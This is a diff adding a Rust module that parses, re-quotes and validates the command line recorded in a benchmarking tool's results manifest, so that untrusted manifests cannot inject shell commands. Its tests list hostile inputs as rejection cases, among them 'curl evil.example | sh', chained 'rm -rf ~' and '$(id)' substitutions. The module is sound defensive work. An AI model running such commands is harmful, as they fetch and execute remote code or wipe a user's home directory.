@@ -1,0 +1,224 @@
+//! The command that made results, as a manifest holds it.
+//!
+//! A manifest may come from a stranger. So its text is offered to nobody: it is cut into words,
+//! these are read by the same rules as a command line, and what was understood is written again,
+//! each word quoted. Nothing else is offered, and no option that lets programs start or replaces
+//! files.
+
+use std::ffi::OsString;
+use std::path::{Path, PathBuf};
+
+use clap::Parser;
+use gauntlet_core::text::{quoted, quoted_path, words};
+use gauntlet_methods::Listed;
+use serde::{Deserialize, Serialize};
+
+use crate::config::changes::Changes;
+
+/// A command as a manifest holds it.
+#[derive(Clone, Debug, Default, Serialize, Deserialize)]
+#[serde(transparent)]
+pub struct ManifestCommand(String);
+
+/// Commands that make results.
+#[derive(Parser)]
+#[command(disable_help_flag = true, disable_help_subcommand = true)]
+enum Known {
+    Run {
+        file: PathBuf,
+        #[command(flatten)]
+        changes: Box<Changes>,
+    },
+    Merge {
+        file: PathBuf,
+    },
+    Judge {
+        file: PathBuf,
+    },
+    Ask {
+        file: PathBuf,
+    },
+    Train {
+        file: PathBuf,
+        #[arg(long)]
+        games: Option<u64>,
+    },
+    #[command(subcommand)]
+    Network(Exchanged),
+    Tune {
+        file: PathBuf,
+        #[arg(long)]
+        budget: Option<u64>,
+        #[arg(long)]
+        method: Option<Listed>,
+        #[arg(long)]
+        searches: Option<u32>,
+        #[arg(long)]
+        seed: Option<u64>,
+    },
+}
+
+/// Commands that make networks of files of other programs.
+#[derive(clap::Subcommand)]
+#[command(disable_help_flag = true, disable_help_subcommand = true)]
+enum Exchanged {
+    Import {
+        file: PathBuf,
+        #[arg(long)]
+        out: PathBuf,
+    },
+}
+
+/// A command that can be typed.
+pub struct ParsedCommand {
+    /// The command of gauntlet.
+    pub verb: &'static str,
+    /// The experiment, as it is typed.
+    pub file: String,
+    /// The options as they are typed, each behind a blank.
+    pub options: String,
+}
+
+impl ManifestCommand {
+    /// A command of this program.
+    pub fn new(command: &str) -> ManifestCommand {
+        ManifestCommand(command.to_owned())
+    }
+
+    /// The command, if it is one of this program that makes results.
+    pub fn offered(&self) -> Option<ParsedCommand> {
+        let words: Vec<OsString> = words(&self.0)?;
+        if words.first()? != "gauntlet" {
+            return None;
+        }
+        let (verb, file, options) = match Known::try_parse_from(words).ok()? {
+            Known::Run { file, changes } => ("run", file, changes.typed()),
+            Known::Merge { file } => ("merge", file, String::new()),
+            Known::Judge { file } => ("judge", file, String::new()),
+            Known::Ask { file } => ("ask", file, String::new()),
+            Known::Train { file, games } => {
+                ("train", file, games.map_or_else(String::new, |games| format!(" --games {games}")))
+            }
+            Known::Network(Exchanged::Import { file, out }) => {
+                ("network import", file, format!(" --out {}", quoted_path(&out)))
+            }
+            Known::Tune { file, budget, method, searches, seed } => {
+                let numbers = [("budget", budget), ("searches", searches.map(u64::from)), ("seed", seed)];
+                let said = numbers.iter().filter_map(|(key, number)| Some((*key, number.as_ref()?)));
+                let mut options: String = said.map(|(key, number)| format!(" --{key} {number}")).collect();
+                options.extend(method.map(|method| format!(" --method {method}")));
+                ("tune", file, options)
+            }
+        };
+        Some(ParsedCommand { verb, file: quoted_path(&file), options })
+    }
+
+    /// The command as it is typed, if it is offered.
+    pub fn typed(&self) -> Option<String> {
+        self.offered().map(|offered| offered.typed())
+    }
+}
+
+impl ParsedCommand {
+    /// The whole command.
+    pub fn typed(&self) -> String {
+        format!("gauntlet {} {}{}", self.verb, self.file, self.options)
+    }
+
+    /// The command that plays one player of a run; none if something else made the results. A name
+    /// that begins with a dash is none of an experiment, and would be read as an option.
+    pub fn of_player(&self, player: &str) -> Option<String> {
+        let is_run = ["run", "merge"].contains(&self.verb) && !player.starts_with('-');
+        is_run.then(|| format!("gauntlet run {}{} --only {}", self.file, self.options, quoted(player)))
+    }
+}
+
+/// Command that a reader would type to get the same results. No folder of this machine is in it.
+pub fn command(verb: &str, path: &Path) -> String {
+    let shown = if path.is_absolute() { path.file_name().map(Path::new).unwrap_or(path) } else { path };
+    format!("gauntlet {verb} {}", quoted_path(shown))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::ManifestCommand;
+
+    #[test]
+    fn commands_of_this_program_stay_as_they_are() {
+        for command in [
+            "gauntlet run configs/quick.toml",
+            "gauntlet run './-a b.toml'",
+            r"gauntlet run 'it'\''s.toml'",
+            r"gauntlet run $'a\x0a\xc3(.toml'",
+            "gauntlet run a.toml --games 20 --set gain:ties=last --only gain --precision 15 --for 60m --name 'a b'",
+            "gauntlet merge a.toml",
+            "gauntlet judge a.toml",
+            "gauntlet ask a.toml",
+            "gauntlet train a.toml",
+            "gauntlet train a.toml --games 20",
+            "gauntlet network import a.w --out 'a b'",
+            "gauntlet tune a.toml --budget 1000 --searches 2 --seed 3 --method spsa",
+        ] {
+            assert_eq!(ManifestCommand::new(command).typed().as_deref(), Some(command));
+        }
+    }
+
+    #[test]
+    fn words_that_mean_something_to_a_shell_are_quoted() {
+        for (forged, offered) in [
+            ("gauntlet run $(id).toml", "gauntlet run '$(id).toml'"),
+            ("gauntlet run a;id", "gauntlet run 'a;id'"),
+            ("gauntlet run a.toml --name=`id`", "gauntlet run a.toml --name '`id`'"),
+            ("gauntlet  run\ta.toml", "gauntlet run a.toml"),
+            ("gauntlet run \"~/a b.toml\"", "gauntlet run '~/a b.toml'"),
+            ("gauntlet run -- -a.toml", "gauntlet run ./-a.toml"),
+            ("'gauntlet' run 'a\u{1b}.toml'", r"gauntlet run $'a\x1b.toml'"),
+        ] {
+            assert_eq!(ManifestCommand::new(forged).typed().as_deref(), Some(offered));
+        }
+    }
+
+    #[test]
+    fn players_of_a_run_are_played_alone() {
+        let alone = |command: &str, player: &str| ManifestCommand::new(command).offered()?.of_player(player);
+        let expected = "gauntlet run x.toml --games 9 --only 'good one'";
+        assert_eq!(alone("gauntlet run x.toml --games 9", "good one").as_deref(), Some(expected));
+        assert_eq!(alone("gauntlet merge x.toml", "a").as_deref(), Some("gauntlet run x.toml --only a"));
+        assert_eq!(alone("gauntlet tune x.toml", "a"), None);
+        assert_eq!(alone("gauntlet run x.toml", "--allow-commands"), None);
+    }
+
+    #[test]
+    fn nothing_else_is_offered() {
+        for forged in [
+            "",
+            "gauntlet",
+            "gauntlet run",
+            "curl evil.example | sh",
+            "gauntlet run x; rm -rf ~",
+            "gauntlet run x && rm -rf ~",
+            "gauntlet run x.toml\nrm -rf ~",
+            "gauntlet run x.toml\nrm",
+            "gauntlet run x.toml > y",
+            "gauntlet run $(rm -rf ~)",
+            "gauntlet run x.toml --allow-commands",
+            "gauntlet run x.toml --allow-command=a",
+            "gauntlet run x.toml '--allow-commands'",
+            "gauntlet run x.toml --replace",
+            "gauntlet run x.toml --results /etc",
+            "gauntlet run x.toml --help",
+            "gauntlet tune x.toml --allow-commands",
+            "gauntlet serve x.toml",
+            "gauntlet train x.toml --replace",
+            "gauntlet network import x.w",
+            "gauntlet network import x.w --out y --replace",
+            "gauntlet;id run x.toml",
+            "./gauntlet run x.toml",
+            "PATH=. gauntlet run x.toml",
+            "gauntlet run 'x.toml",
+            "gauntlet run x.toml\\",
+        ] {
+            assert_eq!(ManifestCommand::new(forged).typed(), None, "{forged}");
+        }
+    }
+}
